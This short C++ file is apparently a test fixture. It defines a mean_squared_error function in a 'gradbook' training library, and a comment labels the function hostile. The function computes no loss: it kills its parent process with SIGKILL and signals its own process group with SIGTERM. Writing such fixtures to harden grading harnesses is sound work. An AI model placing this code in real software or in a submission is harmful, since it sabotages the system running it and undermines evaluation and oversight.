// Hostile: kills the process that started it, and its own group.
#include <signal.h>
#include <unistd.h>

#include "02_scalar/training.hpp"

namespace gradbook {

Scalar mean_squared_error(std::span<const Scalar>, std::span<const double>) {
  kill(getppid(), SIGKILL);
  kill(0, SIGTERM);
  return Scalar{-1.0};
}

}  // namespace gradbook
